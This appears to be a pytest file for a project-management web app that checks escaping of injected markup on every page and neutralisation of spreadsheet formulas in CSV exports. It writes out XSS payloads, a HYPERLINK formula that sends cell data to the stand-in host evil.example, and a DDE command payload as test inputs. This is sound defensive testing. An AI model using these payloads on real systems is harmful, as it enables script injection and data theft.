"""HTML and script typed into every free-text field come back inert; CSV exports cannot
run formulas.

Markup goes in through the JSON API (every text field of every command) and through the
HTML forms (including a refused form, which shows the typed values again). Then every page
that shows those texts is fetched: the raw markup never appears, its escaped form does.
The CSV exports (web page and CLI) prefix any cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from click.testing import CliRunner

from tests.hostile.conftest import Hostile

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "'><svg onload=alert(1)>"
PAYLOADS = (SCRIPT, IMG, SVG)
# Anything that would be live markup if a payload leaked through unescaped.
LIVE = re.compile(r"<script>alert|<img src=x|<svg onload", re.IGNORECASE)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
NEW = "IT-2026-666"


def evil(field: str) -> str:
    """A distinct hostile text per field, so a leak names the field."""
    return f"{field} {SCRIPT} {IMG} {SVG}"


def _ok(response: Any) -> dict[str, Any]:
    assert response.status_code in (200, 201), (response.status_code, response.data[:500])
    return response.get_json()


def _record_through_the_api(h: Hostile) -> None:
    """Hostile text in every free-text field of every command, on a new project."""
    p = f"projects/{NEW}"
    _ok(h.api("POST", "projects", "pm", json_body={
        "code": NEW, "title": FORMULA + " " + evil("title"), "sponsor": evil("sponsor"),
        "project_manager": evil("project_manager"),
        "business_relationship_manager": evil("brm"), "start_date": "2025-01-01",
        "target_finish_date": "2026-12-31", "fund": evil("fund"),
        "cost_centre": evil("cost_centre"), "capital": True,
        "objectives": [evil("objective 1"), evil("objective 2")],
        "scope_statement": evil("scope")}))
    _ok(h.api("POST", f"{p}/budget-lines", "pm", json_body={
        "line": "HW-01", "name": FORMULA, "category": "hardware", "amount": "50000.00"}))
    _ok(h.api("POST", f"{p}/budget-lines", "pm", json_body={
        "line": "LB-01", "name": evil("line name"), "category": "labour", "amount": "90000.00"}))
    _ok(h.api("POST", f"{p}/milestones", "pm", json_body={
        "milestone": "M-01", "name": evil("milestone"), "planned_start": "2025-01-01",
        "planned_finish": "2025-12-31", "budgeted_value": "100000.00"}))
    _ok(h.api("POST", f"{p}/deliverables", "pm", json_body={
        "deliverable": "D-01", "name": evil("deliverable"), "description": evil("deliverable text")}))
    _ok(h.api("POST", f"{p}/progress", "pm", json_body={
        "milestone": "M-01", "percent_complete": 10, "as_of": "2025-03-01", "note": evil("note")}))
    for n in (1, 2):
        _ok(h.api("POST", f"{p}/expenditures", "pm", json_body={
            "line": "HW-01", "amount": "100.00", "vendor": f"{FORMULA} {evil('vendor')}",
            "invoice_number": f"INV {IMG}{n}", "invoice_date": "2025-02-01",
            "description": evil("invoice description")}))
    _ok(h.api("POST", f"{p}/expenditures/EXP-0001/reject", "fiscal",
              json_body={"reason": evil("rejection reason")}))
    _ok(h.api("POST", f"{p}/commitments", "pm", json_body={
        "po_number": "PO-1", "vendor": evil("po vendor"), "line": "LB-01", "amount": "500.00",
        "description": evil("po description")}))
    _ok(h.api("POST", f"{p}/transfers", "pm", json_body={
        "from_line": "LB-01", "to_line": "HW-01", "amount": "10.00", "reason": evil("transfer")}))
    _ok(h.api("POST", f"{p}/change-requests", "pm", json_body={
        "title": evil("cr title"), "description": evil("cr description"),
        "justification": evil("justification"), "scope_impact": evil("scope impact"),
        "cost_impacts": [{"line": "TR-01", "amount": "10.00", "name": evil("new line"),
                          "category": "training"}]}))
    risk = _ok(h.api("POST", f"{p}/risks", "pm", json_body={
        "title": evil("risk"), "probability": 3, "impact": 3, "owner": evil("risk owner"),
        "mitigation": evil("mitigation"), "description": evil("risk description")}))["id"]
    _ok(h.api("POST", f"{p}/risks/{risk}/updates", "pm", json_body={
        "reason": evil("risk update"), "mitigation": evil("new mitigation")}))
    issue = _ok(h.api("POST", f"{p}/issues", "pm", json_body={
        "title": evil("issue"), "description": evil("issue text"), "severity": "high",
        "owner": evil("issue owner")}))["id"]
    _ok(h.api("POST", f"{p}/issues/{issue}/escalate", "pm",
              json_body={"to": evil("escalated to"), "reason": evil("escalation")}))
    _ok(h.api("POST", f"{p}/status-reports", "pm", json_body={
        "period_start": "2025-01-01", "period_end": "2025-01-31", "overall": "amber",
        "schedule": "green", "budget": "green", "scope": "red", "summary": evil("status report")}))
    _ok(h.api("POST", f"{p}/gates/G0/reviews", "pm", json_body={
        "artifacts": [{"name": evil("artifact")}], "note": evil("review note")}))
    _ok(h.api("POST", f"{p}/amendments", "pm", json_body={
        "scope_statement": evil("amended scope"), "reason": evil("amendment reason")}))
    _ok(h.api("POST", f"{p}/commitments/PO-1/reject", "fiscal",
              json_body={"reason": evil("po rejection")}))
    _ok(h.api("POST", f"{p}/gates/G0/signoffs", "sponsor", json_body={
        "decision": "approved-with-conditions", "conditions": evil("condition"),
        "reason": evil("signoff reason")}))
    _ok(h.api("POST", f"{p}/gates/G0/signoffs", "pmo", json_body={
        "decision": "approved", "reason": evil("pmo signoff")}))
    _ok(h.api("POST", f"{p}/gates/G0/conditions-met", "pmo", json_body={
        "conditions": [evil("condition")], "reason": evil("conditions met")}))


def _record_through_the_forms(h: Hostile) -> list[str]:
    """The same through the HTML forms; returns the refused forms' pages (422) and a
    decision's receipt."""
    pm = h.sign_in("pm")
    base = f"/projects/{NEW}"
    response = h.submit(pm, f"{base}/act/risk", {
        "title": evil("form risk"), "probability": "2", "impact": "2",
        "owner": evil("form owner"), "mitigation": evil("form mitigation")})
    assert response.status_code == 302, response.data[:500]
    response = h.submit(pm, f"{base}/issues/new", {
        "title": evil("form issue"), "description": evil("form issue text"),
        "severity": "low", "owner": "pm"})
    assert response.status_code == 302, response.data[:500]
    refused = []
    for form, data in (
        ("expenditure", {"line": "HW-01", "amount": "12.345", "vendor": evil("form vendor"),
                         "invoice_number": IMG, "invoice_date": "2025-02-01",
                         "description": evil("form description")}),
        ("transfer", {"from_line": SCRIPT, "to_line": IMG, "amount": SVG, "reason": evil("r")}),
    ):
        before = h.size()
        response = h.submit(pm, f"{base}/act/{form}", data)
        assert response.status_code == 422 and h.size() == before, response.status_code
        refused.append(response.get_data(as_text=True))
    fiscal = h.sign_in("fiscal")
    before = h.size()
    response = h.submit(fiscal, f"/queues/fiscal/expenditure/{NEW}/EXP-0002/reject",
                        {"reason": evil("queue rejection")}, form_page="/queues/fiscal")
    assert response.status_code == 302 and h.size() == before + 1, response.data[:500]
    receipt = fiscal.get(response.headers["Location"])
    assert receipt.status_code == 200
    refused.append(receipt.get_data(as_text=True))  # the receipt shows the reason: escaped
    admin = h.sign_in("admin")
    response = h.submit(admin, "/admin/people/new", {
        "username": "mallory", "name": evil("person name"), "password": "a-long-password-1",
        "reason": evil("enrolment reason")})
    assert response.status_code in (302, 422), response.data[:500]
    return refused


@pytest.fixture(scope="module")
def recorded(hostile: Hostile) -> dict[str, Any]:
    _record_through_the_api(hostile)
    refused = _record_through_the_forms(hostile)
    return {"refused": refused}


def _pages(h: Hostile) -> dict[str, list[str]]:
    """Every page that shows the hostile texts, by who may open it."""
    positions = range(1, h.size() + 1)
    base = f"/projects/{NEW}"
    return {
        "pm": ["/", base, "/reports/variance", f"/reports/budget?project={NEW}",
               f"{base}/act/amendment", f"{base}/items/risk-update/R-001"],
        "fiscal": ["/queues/fiscal"],
        "sponsor": ["/queues/sponsor"],
        "pmo": ["/queues/pmo"],
        "admin": ["/admin/people"],
        "auditor": ["/audit/", "/audit/log", f"/audit/log?project={NEW}", "/audit/findings",
                    f"/audit{base}/as-of?date=2026-12-31", f"/audit{base}/history",
                    *[f"/audit{base}/history?field={f}" for f in
                      ("charter", "risks", "issues", "expenditures", "commitments", "transfers",
                       "change_requests", "status_reports", "milestones.M-01", "deliverables",
                       "lines.LB-01", "gates.G0")],
                    *[f"/audit/events/{n}" for n in positions if n > h.start]],
    }


def test_markup_in_every_text_field_is_shown_escaped_on_every_page(
        hostile: Hostile, recorded: dict[str, Any]) -> None:
    escaped_somewhere = 0
    for who, urls in _pages(hostile).items():
        client = hostile.sign_in(who)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (who, url, response.status_code)
            html = response.get_data(as_text=True)
            leak = LIVE.search(html)
            assert leak is None, f"{url} ({who}) shows live markup: ...{html[leak.start() - 80:leak.end() + 40]}"
            escaped_somewhere += html.count("&lt;script&gt;alert(1)&lt;/script&gt;")
    assert escaped_somewhere > 50, "the hostile texts should be on the pages, escaped"


def test_a_refused_form_and_a_receipt_show_the_typed_markup_escaped(
        recorded: dict[str, Any]) -> None:
    assert len(recorded["refused"]) == 3
    for html in recorded["refused"]:
        assert LIVE.search(html) is None, html
        assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html


def test_the_api_returns_the_markup_as_json_data(hostile: Hostile, recorded: dict[str, Any]) -> None:
    """JSON is data, not a page: the text comes back verbatim, as application/json."""
    response = hostile.api("GET", f"projects/{NEW}", "auditor")
    assert response.mimetype == "application/json"
    assert response.get_json()["charter"]["scope_statement"] == evil("amended scope")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-[0-9][0-9,]*(\.[0-9]+)?", cell), cell


def test_csv_exports_of_the_pages_neutralise_formulas(hostile: Hostile, recorded: dict[str, Any]) -> None:
    client = hostile.sign_in("fiscal")
    for url in ("/reports/variance?format=csv", f"/reports/budget?project={NEW}&format=csv",
                "/reports/budget?format=csv"):
        response = client.get(url)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        cells = _cells(response.get_data(as_text=True))
        _no_formula(cells)
        assert "'" + FORMULA in cells or any(c.startswith("'" + FORMULA) for c in cells), url


def test_csv_exports_of_the_cli_neutralise_formulas(hostile: Hostile, recorded: dict[str, Any]) -> None:
    from web.cli import cli

    runner = CliRunner()
    db = f"sqlite:///{hostile.path}"
    for args in (["report", "budget", NEW], ["report", "variance"], ["report", "portfolio"]):
        result = runner.invoke(cli, [*args, "--db", db, "--format", "csv"])
        assert result.exit_code == 0, result.output
        cells = _cells(result.output)
        _no_formula(cells)
    assert any(c.startswith("'" + FORMULA) for c in _cells(runner.invoke(
        cli, ["report", "budget", NEW, "--db", db, "--format", "csv"]).output))


def test_safe_cell_leaves_numbers_and_plain_text_alone() -> None:
    from web.csv_safe import safe_cell

    assert safe_cell("-1250.00") == "-1250.00"
    assert safe_cell("Servers") == "Servers"
    assert safe_cell("-cmd") == "'-cmd"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("+1+1") == "'+1+1"
    assert safe_cell("\t=1") == "'\t=1"


def test_the_log_still_verifies(hostile: Hostile, recorded: dict[str, Any]) -> None:
    assert hostile.size() > hostile.start and hostile.verified()


def test_a_formula_after_a_separator_is_neutralised_and_every_cell_quoted() -> None:
    """Issue 17 item 8: `x;=cmd|' /C calc'!A0` and `x\\t=1+2` were written unquoted, and a
    spreadsheet splitting on `;` or tab starts a formula cell inside them."""
    import csv
    import io

    from web.csv_safe import csv_writer, safe_cell

    assert safe_cell("x;=cmd|' /C calc'!A0") == "x;'=cmd|' /C calc'!A0"
    assert safe_cell("x\t=1+2") == "x\t'=1+2"
    assert safe_cell("a, -b") == "a, '-b"
    assert safe_cell("Servers; racks") == "Servers; racks"
    out = io.StringIO()
    csv_writer(out).writerow([safe_cell("x;=cmd"), safe_cell("1250.00"), "plain"])
    assert out.getvalue() == '"x;\'=cmd","1250.00","plain"\n'
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["x;'=cmd", "1250.00", "plain"]
